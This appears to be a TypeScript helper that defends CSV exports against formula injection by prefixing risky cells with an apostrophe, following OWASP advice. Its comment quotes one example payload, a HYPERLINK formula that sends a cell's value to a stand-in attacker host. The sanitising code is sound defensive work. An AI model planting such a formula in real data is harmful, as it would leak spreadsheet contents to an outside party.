// Excel, LibreOffice and Google Sheets run a CSV cell that starts with one of these (or their
// full-width forms) as a formula.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * Sender-chosen text for a CSV cell, so that a spreadsheet shows it rather than runs it. A user id
 * such as `=HYPERLINK("https://evil.example/?"&A1)`, set by anyone who can call the company's
 * chatbot, would otherwise run on the finance desk that opens the export. Such a cell gets a
 * leading apostrophe (OWASP's advice for CSV injection). Only text columns come here: a negative
 * cost stays a number. The SQL views and JSON keep the text as sent.
 */
export function spreadsheetText(value: string | null): string {
  if (value === null) return '';
  return FORMULA_START.test(value) ? `'${value}` : value;
}
